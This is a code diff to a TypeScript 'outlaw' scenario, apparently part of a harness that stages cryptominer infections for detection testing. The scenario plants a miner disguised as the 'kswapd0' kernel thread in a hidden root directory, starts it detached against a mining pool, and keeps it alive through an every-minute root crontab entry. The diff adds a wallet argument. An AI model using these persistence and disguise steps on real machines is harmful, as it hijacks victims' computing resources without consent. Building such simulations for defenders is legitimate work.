@@ -1,5 +1,5 @@
 import type { Scenario } from './types.js';
-import { appendLine, cronLine, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, writeFile } from './kit.js';
+import { appendLine, cronLine, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, writeFile, WALLET } from './kit.js';
 import { LEGIT_CRON } from './clean.js';
 
 const DIR = '/root/.configrc5';
@@ -9,7 +9,7 @@ const MINER = `${DIR}/a/kswapd0`;
 export const outlaw: Scenario = {
   name: 'outlaw',
   plan: (ctx) => {
-    const argv = [MINER, '-o', stratum(ctx.pool, 3333), '--donate-level', '1'];
+    const argv = [MINER, '-o', stratum(ctx.pool, 3333), '--donate-level', '1', '-u', WALLET];
     const upd = ['#!/bin/sh', `cd ${DIR}/a`, 'pgrep -x kswapd0 >/dev/null && exit 0', `setsid ${argv.join(' ')} </dev/null >/dev/null 2>&1 &`, ''].join('\n');
     const lines = [
       `*/1 * * * * ${DIR}/a/upd>/dev/null 2>&1`,
